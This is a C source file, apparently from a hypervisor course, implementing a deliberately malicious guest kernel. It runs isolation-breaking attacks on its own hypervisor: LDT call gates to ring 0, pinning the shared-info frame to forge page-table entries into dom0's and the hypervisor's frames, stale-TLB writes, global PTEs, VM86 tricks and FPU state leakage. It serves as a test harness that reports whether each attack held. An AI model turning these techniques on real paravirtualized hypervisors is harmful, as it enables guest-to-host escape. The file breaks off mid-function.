/*
 * minios-guest/workloads/iso-attacks.c — a malicious guest kernel (kernel
 * task "iso-attack"): one class of attack on isolation per run, chosen with
 * attack=<class> on the command line.
 *
 * Where this sits in the story (course: isolation -- the hypervisor must
 * hold against a guest *kernel*, which runs in ring 1 and may execute any
 * instruction ring 1 can, ask any hypercall with any argument, and build
 * any structure in its own memory):
 *
 *   ldt        build a descriptor table in our own memory at linear address 0
 *              (where an LDT register nobody loaded points), with a call gate
 *              to the hypervisor's code segment and a flat data segment, and
 *              use them;
 *   hvframe    the frames the hypervisor writes (shared info, start info):
 *              make one a page table, renumber it, give it back;
 *   segreload  leave a segment register the hypervisor cannot reload on its
 *              way out, and see what its exit path does;
 *   vm86       enter virtual-8086 mode with iret from ring 1 (TCG allows it)
 *              and trap there (vm86-trap), or turn the real interrupts off
 *              there (vm86-cli, IOPL 3: cli; jmp .);
 *   work       hypercalls with a lot of work behind few arguments: pin/unpin
 *              of a directory naming many full page tables, batches of them,
 *              a multicall of batches, long console writes;
 *   fpu        load an x87 state of our own and look for another domain's;
 *   tlb        give a frame back while a stale TLB entry still maps it, and
 *              write through it;
 *   global     ask for page-table entries with the global bit, which would
 *              survive the switch to another domain's address space.
 *
 * Each check prints "iso-attack: <what>: held (<how>)" or "...: ESCAPE
 * (<what happened>)", and a summary.  A victim domain (workloads/victim.c)
 * runs beside us and reports its own memory and time; the scenarios
 * (tests/scenarios/iso-*.scn) check both.  Some attacks, when they are
 * contained, cost us our life (vm86): then the hypervisor's log is the
 * report.  Only under hvkit: natively this kernel owns the machine.
 */
#include "kernel/kernel.h"
#include "arch/pv/hypercall.h"
#include "arch/pvops.h"
#include "arch/pv/pvops-hv.h"
#include "kernel/proc.h"
#include "kernel/trap.h"
#include "kernel/vm.h"
#include "lib/string.h"
#include "lib/x86.h"
#include "workloads/workloads.h"
#include "public/memory.h"
#include "public/mmu.h"

static int escapes, held;


static void report_held(const char *what, const char *how, uint32_t v)
{
    kprintf("iso-attack: %s: held (", what);
    kprintf(how, v);
    kprintf(")\n");
    held++;
}

static void report_escape(const char *what, const char *how, uint32_t v)
{
    kprintf("iso-attack: %s: ESCAPE (", what);
    kprintf(how, v);
    kprintf(")\n");
    escapes++;
}

/* ---- hypercalls, raw: the attacks want the error codes ----------------- */

static int uva(uint32_t va, uint32_t val, uint32_t flags)
{
    return hypercall(__HYPERVISOR_update_va_mapping, va, val, 0, flags, 0);
}

static int mmu_update1(uint32_t ptr, uint32_t val)
{
    struct mmu_update u = { ptr, val };
    return hypercall(__HYPERVISOR_mmu_update, (uint32_t)&u, 1, 0, DOMID_SELF, 0);
}

static int mmuext1(uint32_t cmd, uint32_t arg)
{
    struct mmuext_op op = { .cmd = cmd, .arg1.mfn = arg };
    return hypercall(__HYPERVISOR_mmuext_op, (uint32_t)&op, 1, 0, DOMID_SELF, 0);
}

static int give_back_pfn(uint32_t pfn)
{
    struct xen_memory_reservation r = {
        .extent_start = (uint32_t)&pfn, .nr_extents = 1, .extent_order = 0,
        .domid = DOMID_SELF,
    };
    return hypercall(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, (uint32_t)&r, 0, 0, 0);
}

static uint32_t kva_pfn(const void *kva) { return ((uint32_t)kva - KERNBASE) >> 12; }
static uint32_t *p2m_list(void) { return (uint32_t *)start_info->mfn_list; }

/* The kernel's own page-table entry for kernel address kva: the L1 frame
 * and index (our directory is readable, its tables too). */
static uint32_t kernel_l1_of(const void *kva, uint32_t *idx)
{
    uint32_t *pd = vm_kernel_pgdir();
    *idx = ((uint32_t)kva >> 12) & 0x3FF;
    return pd[(uint32_t)kva >> 22] >> 12;
}

static uint32_t *l1_kva(uint32_t l1_mfn)
{
    return P2V(pv_ops.pt_pfn(l1_mfn) << 12);
}

/* A 32-bit store that may fault: 1 if it did. */
static int store_may_fault(volatile uint32_t *p, uint32_t v)
{
    int faulted;
    __asm__ volatile("movl $1f, vm_fixup_eip\n\t"
                     "movl %2, (%1)\n\t"
                     "movl $0, %0\n\t"
                     "jmp 2f\n"
                     "1:\tmovl $1, %0\n"
                     "2:\tmovl $0, vm_fixup_eip"
                     : "=&r"(faulted) : "r"(p), "r"(v) : "memory");
    return faulted;
}

/* A 32-bit load that may fault: 1 if it did. */
static int load_may_fault(const volatile uint32_t *p, uint32_t *v)
{
    int faulted;
    uint32_t x = 0;
    __asm__ volatile("movl $1f, vm_fixup_eip\n\t"
                     "movl (%2), %1\n\t"
                     "movl $0, %0\n\t"
                     "jmp 2f\n"
                     "1:\tmovl $1, %0\n"
                     "2:\tmovl $0, vm_fixup_eip"
                     : "=&r"(faulted), "+r"(x) : "r"(p) : "memory");
    *v = x;
    return faulted;
}

/* mov sel, %fs, which may fault: 1 if it did. */
static int load_fs_may_fault(uint32_t sel)
{
    int faulted;
    __asm__ volatile("movl $1f, vm_fixup_eip\n\t"
                     "movw %w1, %%fs\n\t"
                     "movl $0, %0\n\t"
                     "jmp 2f\n"
                     "1:\tmovl $1, %0\n"
                     "2:\tmovl $0, vm_fixup_eip"
                     : "=&r"(faulted) : "r"(sel) : "memory");
    return faulted;
}

static uint32_t read_fs(void)
{
    uint32_t v = 0;
    __asm__ volatile("movw %%fs, %w0" : "+r"(v));
    return v;
}

/* A segment descriptor (Intel SDM vol. 3, 3.4.5): flat, 4 KiB granular. */
static void flat_desc(uint32_t *d, uint32_t access)
{
    d[0] = 0x0000FFFFu;
    d[1] = 0x00CF0000u | (access << 8);
}

/* A 32-bit call gate (type 0xC) to sel:off, DPL 3: any ring may call it. */
static void call_gate(uint32_t *d, uint32_t sel, uint32_t off)
{
    d[0] = (sel << 16) | (off & 0xFFFF);
    d[1] = (off & 0xFFFF0000u) | (0xECu << 8);
}

/* ==== ldt: descriptor tables of our own ================================== */

extern void iso_ring0_probe(void);
volatile uint32_t iso_ring0_cs, iso_ring0_cr0;

/*
 * The CPU finds an LDT through the LDT register.  If nobody ever loads it,
 * it keeps its reset value -- base 0, limit 0xFFFF -- and an LDT selector
 * (bit 2 set) reads its descriptor from linear address 0 + 8 * index: our
 * own memory, whatever we put there.  The hypervisor must load a null LDT,
 * so that every LDT selector faults.
 */
#define LDT_GATE_SEL  0x0D      /* index 1, TI = LDT, RPL 1 */
#define LDT_DATA_SEL  0x15      /* index 2, TI = LDT, RPL 1 */

/* lcall through sel; 1 if it faulted. */
static int lcall_may_fault(void)
{
    int faulted;
    __asm__ volatile("movl $1f, vm_fixup_eip\n\t"
                     "lcall $0x0d, $0\n\t"
                     "movl $0, %0\n\t"
                     "jmp 2f\n"
                     "1:\tmovl $1, %0\n"
                     "2:\tmovl $0, vm_fixup_eip"
                     : "=&r"(faulted) : : "memory");
    return faulted;
}

/* An address space with a page of ours at linear address 0 (VA 0 is below
 * the kernel: a scratch directory of our own, the kernel half shared). */
static uint32_t *scratch_pd;

static uint32_t *map_page_at(uint32_t va)
{
    if (!scratch_pd)
        scratch_pd = vm_create();
    uint32_t *page = scratch_pd ? vm_map_zero(scratch_pd, va) : 0;
    if (!page)
        panic("iso-attack: no memory");
    vm_switch(scratch_pd);
    return page;
}

static void scratch_done(void)
{
    vm_switch(0);
    if (scratch_pd)
        vm_destroy(scratch_pd);
    scratch_pd = 0;
}

static void attack_ldt(void)
{
    uint32_t *page0 = map_page_at(0);
    call_gate(&page0[2], 0x08, (uint32_t)iso_ring0_probe);  /* index 1 */
    flat_desc(&page0[4], 0xB2);                             /* index 2: data, DPL 1 */
    kprintf("iso-attack: an LDT at linear 0: a call gate to 0x08:0x%x, a flat data segment\n",
            (uint32_t)iso_ring0_probe);

    iso_ring0_cs = 0;
    int faulted = lcall_may_fault();
    if (iso_ring0_cs)
        report_escape("call gate 0x0d in our LDT to the hypervisor's code segment",
                      "ran our code in ring 0: cs 0x%x", iso_ring0_cs);
    else if (faulted)
        report_held("call gate 0x0d in our LDT to the hypervisor's code segment",
                    "fault %u at the lcall: the LDT is null", vm_fixup_trapno);
    else
        report_escape("call gate 0x0d in our LDT", "the lcall returned without running", 0);

    faulted = load_fs_may_fault(LDT_DATA_SEL);
    if (faulted) {
        report_held("load LDT data selector 0x15 (flat, 4 GiB) into %fs",
                    "fault %u at the load", vm_fixup_trapno);
    } else {
        report_escape("load LDT data selector 0x15 (flat, 4 GiB) into %fs",
                      "loaded: %%fs = 0x%x", read_fs());
        load_fs_may_fault(0);
    }
    scratch_done();
}

/* ==== segreload: what the exit path cannot restore ======================== */

extern void iso_failsafe(void);
extern void hypervisor_callback(void);
volatile uint32_t iso_failsafe_calls, iso_failsafe_sel[4];

static void attack_segreload(void)
{
    int r = HYPERVISOR_set_callbacks(FLAT_RING1_CS, (uint32_t)hypervisor_callback,
                                     FLAT_RING1_CS, (uint32_t)iso_failsafe);
    if (r < 0)
        panic("iso-attack: set_callbacks: %d", r);

    /* GDT selectors ring 1 may not hold: the hypervisor's own data segment,
     * the TSS, one past the end of the table.  Each must fault at the load,
     * in ring 1, like on any x86. */
    static const uint32_t bad[] = { 0x10, 0x11, 0x39, 0x41, 0xFFF9 };
    for (uint32_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        if (load_fs_may_fault(bad[i]))
            report_held("load GDT selector into %fs", "fault at the load of 0x%x", bad[i]);
        else
            report_escape("load GDT selector into %fs", "loaded 0x%x", bad[i]);
        load_fs_may_fault(0);
    }

    /* An LDT selector, then its descriptor's page taken away by a
     * hypercall: the hypervisor's exit path reloads %fs from a table that
     * is no longer mapped.  Events stay masked meanwhile: our own exit path
     * would have the same problem in an upcall. */
    uint32_t *page0 = map_page_at(0);
    flat_desc(&page0[2], 0xB2);                             /* LDT index 1: 0x0D */
    pv_ops.irq_disable();
    iso_failsafe_calls = 0;
    int faulted = load_fs_may_fault(0x0D);
    uint32_t vec = vm_fixup_trapno;
    if (!faulted) {
        r = uva(0, 0, UVMF_INVLPG);                         /* the LDT page goes */
        uint32_t fs_after = read_fs();
        load_fs_may_fault(0);
        pv_ops.irq_enable();
        if (iso_failsafe_calls)
            report_held("LDT selector 0x0d in %fs, its page unmapped",
                        "nulled, failsafe callback told fs was 0x%x", iso_failsafe_sel[2]);
        else
            report_escape("LDT selector 0x0d in %fs, its page unmapped",
                          "back with %%fs = 0x%x and no failsafe callback", fs_after);
    } else {
        pv_ops.irq_enable();
        report_held("LDT selector 0x0d into %fs (for the exit path to reload)",
                    "fault %u at the load: the LDT is null", vec);
    }
    scratch_done();

    /* Selectors ring 1 may hold must come back exactly: the kernel's data
     * segment, the programs', a null one with RPL 3. */
    static const uint32_t good[] = { 0x21, 0x33, 0x03 };
    for (uint32_t i = 0; i < sizeof good / sizeof good[0]; i++) {
        if (load_fs_may_fault(good[i])) {
            report_escape("load a selector ring 1 may hold", "0x%x faulted", good[i]);
            continue;
        }
        hypercall(__HYPERVISOR_xen_version, 0, 0, 0, 0, 0);
        HYPERVISOR_sched_op(SCHEDOP_yield, 0);              /* and a domain switch */
        uint32_t back = read_fs();
        load_fs_may_fault(0);
        if (back == good[i])
            report_held("%fs across a hypercall and a domain switch", "0x%x kept", back);
        else
            report_escape("%fs across a hypercall and a domain switch", "came back as 0x%x", back);
    }
    extern void failsafe_callback(void);
    r = HYPERVISOR_set_callbacks(FLAT_RING1_CS, (uint32_t)hypervisor_callback,
                                 FLAT_RING1_CS, (uint32_t)failsafe_callback);
    if (iso_failsafe_calls > 1)
        report_escape("failsafe callback", "called %u times", iso_failsafe_calls);
}

/* ==== vm86: virtual-8086 mode from ring 1 ================================= */

void iso_enter_vm86(uint32_t cs, uint32_t ip, uint32_t eflags) __attribute__((noreturn));

#define EFLAGS_VM   0x00020000u
#define EFLAGS_IOPL 0x00003000u

static void attack_vm86(int cli)
{
    /* The code at linear 0x1000 (cs 0x100, ip 0), on a user page of a
     * scratch address space (VM86 runs at CPL 3). */
    uint8_t *code = (uint8_t *)map_page_at(0x1000);
    if (cli) {
        code[0] = 0xFA;                 /* cli: with IOPL 3 it clears the REAL IF */
        code[1] = 0xEB; code[2] = 0xFE; /* jmp . */
    } else {
        code[0] = 0xF4;                 /* hlt: #GP in virtual-8086 mode */
        code[1] = 0xEB; code[2] = 0xFE;
    }
    uint32_t eflags = EFLAGS_VM | EFLAGS_IF | 0x2 | (cli ? EFLAGS_IOPL : 0);
    kprintf("iso-attack: iret from ring 1 into virtual-8086 mode (eflags 0x%x) at 0x100:0: %s\n",
            eflags, cli ? "cli; jmp . (real IF off)"
                        : "hlt (a #GP in VM86)");
    iso_enter_vm86(0x100, 0, eflags);
}

/* ==== tlb: a frame given back, a TLB entry left behind ==================== */

#define TLB_TRIES 16

static void attack_tlb(void)
{
    /* QEMU's TLB is a small direct-mapped cache, and the hypervisor's own
     * accesses during the two hypercalls below may evict our entry by
     * chance; pages at sixteen different virtual addresses give the stale
     * entry sixteen chances to survive.  Hardware TLBs keep it more
     * reliably still. */
    volatile uint32_t *pages[TLB_TRIES];
    for (int k = 0; k < TLB_TRIES; k++)
        if (!(pages[k] = page_alloc()))
            panic("iso-attack: no memory");
    uint32_t given = 0, landed = 0, landed_mfn = 0;
    for (int k = 0; k < TLB_TRIES; k++) {
        volatile uint32_t *page = pages[k];
        uint32_t pfn = kva_pfn((void *)page), mfn = pv_ops.pt_mfn((void *)page);
        page[0] = 1;                    /* the TLB now holds our mapping */
        /* Unmap it without asking for a flush (UVMF_NONE is allowed: the
         * guest says it does not need one), give the frame back (nothing
         * maps it any more, so memory_op agrees), write through the old
         * address.  Nothing in between, not even a message: a domain
         * switch would load CR3, which flushes anyway. */
        int r = uva((uint32_t)page, 0, UVMF_NONE);
        int g = r ? r : give_back_pfn(pfn);
        int faulted = g == 1 ? store_may_fault(&page[1], 0xDEADBEEFu) : 1;
        if (g != 1) {
            report_escape("give back an unmapped page", "memory_op said %d", (uint32_t)g);
            continue;
        }
        p2m_list()[pfn] = 0xFFFFFFFFu;  /* a hole in our P2M now */
        given++;
        if (!faulted) {
            landed++;
            landed_mfn = mfn;
        }
    }
    kprintf("iso-attack: %u frames given back, each then written through our old mapping\n",
            given);
    if (!landed)
        report_held("write via a stale TLB entry to a frame given back",
                    "a page fault each time: TLB flushed first", 0);
    else
        report_escape("write via a stale TLB entry to a frame given back",
                      "0xdeadbeef landed in free frames, e.g. 0x%x", landed_mfn);
}

/* ==== global: entries that survive a CR3 switch =========================== */

static void global_result(const char *what, int r, uint32_t entry)
{
    if (r < 0 && !(entry & PTE_G))
        report_held(what, "refused with %d", (uint32_t)r);
    else if (!(entry & PTE_G))
        report_held(what, "accepted with the global bit stripped: entry 0x%x", entry);
    else
        report_escape(what, "entry 0x%x is global: it would outlive a CR3 switch", entry);
}

static void attack_global(void)
{
    uint32_t *page = page_alloc();
    if (!page)
        panic("iso-attack: no memory");
    uint32_t mfn = pv_ops.pt_mfn(page), idx, l1 = kernel_l1_of(page, &idx);
    volatile uint32_t *entry = &l1_kva(l1)[idx];
    uint32_t rw = (mfn << 12) | PTE_P | PTE_RW;

    int r = uva((uint32_t)page, rw | PTE_G, UVMF_INVLPG);
    global_result("update_va_mapping with the global bit", r, *entry);
    uva((uint32_t)page, rw, UVMF_INVLPG);

    r = mmu_update1((l1 << 12) | (idx * 4), rw | PTE_G);
    global_result("mmu_update of a present entry, adding only the global bit", r, *entry);
    uva((uint32_t)page, rw, UVMF_INVLPG);

    r = uva((uint32_t)page, 0, UVMF_INVLPG);
    r = r ? r : mmu_update1((l1 << 12) | (idx * 4), rw | PTE_G);
    global_result("mmu_update of an absent entry with the global bit", r, *entry);
    uva((uint32_t)page, rw, UVMF_INVLPG);

    r = store_may_fault(entry, rw | PTE_G) ? -HV_EINVAL : 0;
    global_result("a direct store of a global entry into our page table", r, *entry);
    uva((uint32_t)page, rw, UVMF_INVLPG);

    /* A new table full of global entries, pinned: validation must refuse. */
    uint32_t *t = page_alloc();
    if (!t)
        panic("iso-attack: no memory");
    uint32_t tmfn = pv_ops.pt_mfn(t);
    for (int i = 0; i < 16; i++)
        t[i] = (mfn << 12) | PTE_P | PTE_G;
    r = uva((uint32_t)t, (tmfn << 12) | PTE_P, UVMF_INVLPG);
    r = r ? r : mmuext1(MMUEXT_PIN_L1_TABLE, tmfn);
    global_result("pin a page table of global entries", r, r == 0 ? t[0] : 0);
    if (r == 0)
        mmuext1(MMUEXT_UNPIN_TABLE, tmfn);
    uva((uint32_t)t, (tmfn << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
    page_free(t);
    page_free(page);
}

/* ==== fpu: another domain's x87 state ====================================== */

#define ATTACK_FPU_CW 0x0F7Fu       /* round toward zero, 64-bit precision */

static void attack_fpu(void)
{
    uint16_t mine = ATTACK_FPU_CW, cw;
    double lg2, st0;
    __asm__ volatile("fninit\n\tfldcw %0\n\tfldlg2" : : "m"(mine));
    __asm__ volatile("fstl %0" : "=m"(lg2));
    uint32_t seen_other = 0, rounds = cmdline_int("fpu_rounds", 400);
    uint16_t other_cw = 0;
    for (uint32_t i = 0; i < rounds; i++) {
        HYPERVISOR_sched_op(SCHEDOP_yield, 0);   /* the victim runs, its x87 state too */
        proc_sleep_ns(300000);
        __asm__ volatile("fnstcw %0" : "=m"(cw));
        __asm__ volatile("fstl %0" : "=m"(st0));
        uint32_t a[2], b[2];
        memcpy(a, &st0, 8);
        memcpy(b, &lg2, 8);
        if (cw != mine || a[0] != b[0] || a[1] != b[1]) {
            if (!seen_other)
                other_cw = cw;
            seen_other++;
            __asm__ volatile("fninit\n\tfldcw %0\n\tfldlg2" : : "m"(mine));
        }
    }
    if (seen_other)
        report_escape("our x87 control word and st(0) across domain switches",
                      "another domain's state showed: cw 0x%x", other_cw);
    else
        report_held("our x87 control word and st(0) across domain switches",
                    "ours every time, over %u switches", rounds);
}

/* ==== work: a lot of work behind few arguments ============================= */

static uint64_t rdtsc64(void)
{
    uint32_t lo, hi;
    __asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
    return ((uint64_t)hi << 32) | lo;
}

static uint32_t tsc_us(uint64_t t)
{
    return (uint32_t)(t * 1000 / start_info->tsc_khz);
}

#define WORK_MAX_L1 256
#define WORK_MAX_OPS 512                 /* one page of struct mmuext_op */
static uint32_t *work_l1[WORK_MAX_L1];

static void attack_work(void)
{
    uint32_t n_l1 = cmdline_int("work_l1s", 64), n_ops = cmdline_int("work_ops", 64);
    if (n_l1 > WORK_MAX_L1)
        n_l1 = WORK_MAX_L1;
    if (n_ops > WORK_MAX_OPS)
        n_ops = WORK_MAX_OPS;
    /* The batch, and the console text, in pages of their own (nothing of
     * this task sits in every minios image's .bss). */
    struct mmuext_op *work_ops = page_alloc();
    char *text = page_alloc();
    if (!work_ops || !text)
        panic("iso-attack: no memory");
    /* A directory whose first n_l1 entries name page tables in which every
     * one of the 1024 entries maps the same page of ours, read-only: a
     * directory that costs n_l1 * 1024 checks to validate, and as many to
     * devalidate, for one mmuext_op. */
    uint32_t *pd = page_alloc(), *data = page_alloc();
    if (!pd || !data)
        panic("iso-attack: no memory");
    uint32_t data_ro = (pv_ops.pt_mfn(data) << 12) | PTE_P;
    uint32_t got = 0;
    for (; got < n_l1; got++) {
        uint32_t *t = page_alloc();
        if (!t)
            break;
        for (int i = 0; i < 1024; i++)
            t[i] = data_ro;
        work_l1[got] = t;
        pd[got] = (pv_ops.pt_mfn(t) << 12) | PTE_P | PTE_RW | PTE_US;
    }
    n_l1 = got;
    uint32_t pd_mfn = pv_ops.pt_mfn(pd);
    /* Tables may not be writable: our kernel map of each goes read-only. */
    for (uint32_t i = 0; i < n_l1; i++)
        uva((uint32_t)work_l1[i], (pv_ops.pt_mfn(work_l1[i]) << 12) | PTE_P, UVMF_INVLPG);
    uva((uint32_t)pd, (pd_mfn << 12) | PTE_P, UVMF_INVLPG);
    for (uint32_t i = 0; i < n_ops; i++) {
        work_ops[i].cmd = (i & 1) ? MMUEXT_UNPIN_TABLE : MMUEXT_PIN_L2_TABLE;
        work_ops[i].arg1.mfn = pd_mfn;
    }
    kprintf("iso-attack: a directory naming %u full page tables (%u entries to check per pin)\n",
            n_l1, n_l1 * 1024);

    uint64_t t0 = rdtsc64();
    int r = mmuext1(MMUEXT_PIN_L2_TABLE, pd_mfn);
    uint64_t t1 = rdtsc64();
    int u = mmuext1(MMUEXT_UNPIN_TABLE, pd_mfn);
    uint64_t t2 = rdtsc64();
    kprintf("iso-attack: one pin: %d in %u us; one unpin: %d in %u us\n",
            r, tsc_us(t1 - t0), u, tsc_us(t2 - t1));

    uint32_t done = 0;
    t0 = rdtsc64();
    r = hypercall(__HYPERVISOR_mmuext_op, (uint32_t)work_ops, n_ops, (uint32_t)&done, DOMID_SELF, 0);
    t1 = rdtsc64();
    kprintf("iso-attack: mmuext_op batch of %u pin/unpin: %d, %u done, in %u us\n",
            n_ops, r, done, tsc_us(t1 - t0));
    if (r != 0 || done != n_ops)
        report_escape("a batch of pin/unpin", "it did not complete: %d", (uint32_t)r);

    struct multicall_entry mc[2];
    memset(mc, 0, sizeof mc);
    for (int i = 0; i < 2; i++) {
        mc[i].op = __HYPERVISOR_mmuext_op;
        mc[i].args[0] = (uint32_t)work_ops;
        mc[i].args[1] = n_ops;
        mc[i].args[3] = DOMID_SELF;
        mc[i].result = 12345;
    }
    t0 = rdtsc64();
    r = HYPERVISOR_multicall(mc, 2);
    t1 = rdtsc64();
    kprintf("iso-attack: multicall of two such batches: %d, results %d %d, in %u us\n",
            r, mc[0].result, mc[1].result, tsc_us(t1 - t0));
    if (r != 0 || mc[0].result != 0 || mc[1].result != 0)
        report_escape("a multicall of batches", "results %d", (uint32_t)mc[0].result);

    /* Long console writes: 4 KiB at a time, the most one call takes.  Each
     * line must come out once, whole, in order, however the call is cut. */
    uint32_t lines = CONSOLEIO_MAX / 64;
    for (uint32_t l = 0; l < lines; l++) {
        char *s = &text[l * 64];
        memset(s, '.', 64);
        const char *h = "iso-attack: console ";
        memcpy(s, h, strlen(h));
        s[20] = (char)('0' + l / 10);
        s[21] = (char)('0' + l % 10);
        s[22] = ' ';
        s[63] = '\n';
    }
    t0 = rdtsc64();
    for (int k = 0; k < 4; k++)
        HYPERVISOR_console_io(CONSOLEIO_write, CONSOLEIO_MAX, text);
    t1 = rdtsc64();
    kprintf("iso-attack: 4 console writes of %u bytes in %u us\n", CONSOLEIO_MAX, tsc_us(t1 - t0));

    /* Give it all back the legal way. */
    for (uint32_t i = 0; i < n_l1; i++) {
        uva((uint32_t)work_l1[i], (pv_ops.pt_mfn(work_l1[i]) << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
        page_free(work_l1[i]);
    }
    uva((uint32_t)pd, (pd_mfn << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
    page_free(pd);
    page_free(data);
    page_free(work_ops);
    page_free(text);
    report_held("long hypercalls", "all completed: see the victim's gap for the time", 0);
}

/* ==== hvframe: the frames the hypervisor writes ============================= */

static struct start_info si_copy;

/* The shared-info page as a page table, exploited: a page fault at address
 * A makes the bounce path write A (as cr2) into the frame's entry 2, which
 * maps frame A >> 12 with the flags in A's low bits if the frame is an L1
 * that a directory of ours points to.  Writes `marker` into the first word
 * of each of n frames from `first`, and reads the hypervisor's first image
 * frame.  Returns how many writes landed. */
static uint32_t forge_through_shared(uint32_t sh_mfn, uint32_t first, uint32_t n, uint32_t marker)
{
    uint32_t *kpd = vm_kernel_pgdir(), slot = 256;   /* VA 0x40000000: unused by kernel tasks */
    uint32_t kpd_mfn = pv_ops.pt_mfn(kpd);
    if (mmu_update1((kpd_mfn << 12) | (slot * 4), (sh_mfn << 12) | PTE_P | PTE_RW | PTE_US) < 0)
        return 0;
    volatile uint32_t *win = (volatile uint32_t *)((slot << 22) | (2 << 12));
    uint32_t landed = 0, v;
    for (uint32_t k = 0; k <= n; k++) {
        uint32_t target = k == n ? 0x100 : first + k;     /* last: the hypervisor */
        /* The fault whose address is the entry we want. */
        load_may_fault((volatile uint32_t *)((target << 12) | PTE_P | PTE_RW), &v);
        mmuext1(MMUEXT_INVLPG_LOCAL, (uint32_t)win);
        if (load_may_fault(win, &v))
            continue;
        if (k == n) {
            kprintf("iso-attack: read the hypervisor's frame 0x100: first word 0x%x\n", v);
            landed++;
        } else if (!store_may_fault(win, marker)) {
            landed++;
        }
    }
    mmu_update1((kpd_mfn << 12) | (slot * 4), 0);
    return landed;
}

static void attack_hvframe(void)
{
    /* The kernel reads start info all the time (the P2M pointer): work from
     * a copy, so the page itself can be attacked. */
    memcpy(&si_copy, start_info, sizeof si_copy);
    struct start_info *si_page = start_info;
    start_info = &si_copy;
    uint32_t si_pfn = kva_pfn(si_page), si_mfn = pv_ops.pt_mfn(si_page);
    uint32_t sh_mfn = si_copy.shared_info >> 12, sh_va = si_copy.shared_info_va;
    kprintf("iso-attack: start info frame 0x%x (pfn 0x%x), shared info frame 0x%x\n",
            si_mfn, si_pfn, sh_mfn);

    /* 1. Start info as a page table: empty it (an empty table validates),
     * map it read-only, pin it. */
    uint8_t *save = page_alloc();
    if (!save)
        panic("iso-attack: no memory");
    memcpy(save, si_page, 4096);
    memset(si_page, 0, 4096);
    int r = uva((uint32_t)si_page, (si_mfn << 12) | PTE_P, UVMF_INVLPG);
    int pin = r ? r : mmuext1(MMUEXT_PIN_L1_TABLE, si_mfn);
    if (pin == 0) {
        mmuext1(MMUEXT_UNPIN_TABLE, si_mfn);
        report_escape("pin the start-info frame as a page table", "pinned", 0);
    } else {
        report_held("pin the start-info frame as a page table", "refused with %d", (uint32_t)pin);
    }
    pin = mmuext1(MMUEXT_PIN_L2_TABLE, si_mfn);
    if (pin == 0) {
        mmuext1(MMUEXT_UNPIN_TABLE, si_mfn);
        report_escape("pin the start-info frame as a page directory", "pinned", 0);
    } else {
        report_held("pin the start-info frame as a page directory", "refused with %d", (uint32_t)pin);
    }
    uva((uint32_t)si_page, (si_mfn << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
    memcpy(si_page, save, 4096);
    page_free(save);

    /* 2. Give the start-info page back (unmapped first). */
    r = uva((uint32_t)si_page, 0, UVMF_INVLPG);
    int g = r ? r : give_back_pfn(si_pfn);
    if (g == 1) {
        report_escape("give back the start-info page", "memory_op took frame 0x%x", si_mfn);
        p2m_list()[si_pfn] = 0xFFFFFFFFu;
    } else {
        report_held("give back the start-info page", "refused with %d", (uint32_t)g);
        uva((uint32_t)si_page, (si_mfn << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
    }

    /* 3. Renumber the shared-info frame: make it back a spare pfn of ours
     * (MMU_MACHPHYS_UPDATE), the first step to giving it back. */
    void *spare = page_alloc();
    uint32_t spfn = kva_pfn(spare), smfn = pv_ops.pt_mfn(spare);
    r = mmu_update1((sh_mfn << 12) | MMU_MACHPHYS_UPDATE, spfn);
    int renumbered = r == 0;
    if (renumbered)
        report_escape("renumber the shared-info frame (MMU_MACHPHYS_UPDATE)",
                      "it now backs our pfn 0x%x", spfn);
    else
        report_held("renumber the shared-info frame (MMU_MACHPHYS_UPDATE)", "refused with %d",
                    (uint32_t)r);

    /* 4. The shared-info frame as a page table.  Everything in it must
     * look like an empty table for the pin to validate, and the guest must
     * hold no writable mapping: mask events, clear it, and in one multicall
     * remap it read-only and pin it (no timer tick can fall in between). */
    volatile struct shared_info *sh = shared_info;
    pv_ops.irq_disable();
    for (int tries = 0; tries < 8; tries++) {
        memset((void *)sh, 0, 4096);
        sh->vcpu_info[0].evtchn_upcall_mask = 1;
        struct mmuext_op op = { .cmd = MMUEXT_PIN_L1_TABLE, .arg1.mfn = sh_mfn };
        struct multicall_entry mc[2];
        memset(mc, 0, sizeof mc);
        mc[0].op = __HYPERVISOR_update_va_mapping;
        mc[0].args[0] = sh_va;
        mc[0].args[1] = (sh_mfn << 12) | PTE_P;
        mc[0].args[3] = UVMF_INVLPG;
        mc[1].op = __HYPERVISOR_mmuext_op;
        mc[1].args[0] = (uint32_t)&op;
        mc[1].args[1] = 1;
        mc[1].args[3] = DOMID_SELF;
        HYPERVISOR_multicall(mc, 2);
        pin = mc[1].result;
        if (pin == 0)
            break;
        uva(sh_va, (sh_mfn << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
        /* Only a timer tick between our memset and the pin (new time
         * values, which look like entries) is worth another try. */
        if (sh->vcpu_info[0].time.version == 0)
            break;
    }
    if (pin == 0) {
        report_escape("pin the shared-info frame as a page table", "pinned", 0);
        /* The hypervisor now writes page-table entries for us. */
        uint32_t other = p2m_list()[0] + 2;          /* dom0's last pages */
        uint32_t landed = forge_through_shared(sh_mfn, other, 32, 0xBAD0BAD0u);
        if (landed)
            report_escape("forge entries through the shared-info frame",
                          "%u frames of dom0 and the hypervisor reached", landed);
        mmuext1(MMUEXT_UNPIN_TABLE, sh_mfn);
        uva(sh_va, (sh_mfn << 12) | PTE_P | PTE_RW, UVMF_INVLPG);
    } else {
        report_held("pin the shared-info frame as a page table", "refused with %d", (uint32_t)pin);
    }
    pin = mmuext1(MMUEXT_PIN_L2_TABLE, sh_mfn);
    if (pin == 0) {
        mmuext1(MMUEXT_UNPIN_TABLE, sh_mfn);
        report_escape("pin the shared-info frame as a page directory", "pinned", 0);
    } else {
        report_held("pin the shared-info frame as a page directory", "refused with %d", (uint32_t)pin);
    }
    pv_ops.irq_enable();

    /* 5. Give the shared-info frame back, through the pfn it was
     * renumbered to: unmapped and given back in one multicall (events and
     * time live in that page; nothing of ours may touch it meanwhile). */
    if (renumbered) {
        pv_ops.irq_disable();
        uint32_t pfn = spfn;
        struct xen_memory_reservation res = {
            .extent_start = (uint32_t)&pfn, .nr_extents = 1, .domid = DOMID_SELF,
        };
        struct multicall_entry mc[2];
        memset(mc, 0, sizeof mc);
        mc[0].op = __HYPERVISOR_update_va_mapping;
        mc[0].args[0] = sh_va;
        mc[0].args[3] = UVMF_INVLPG;
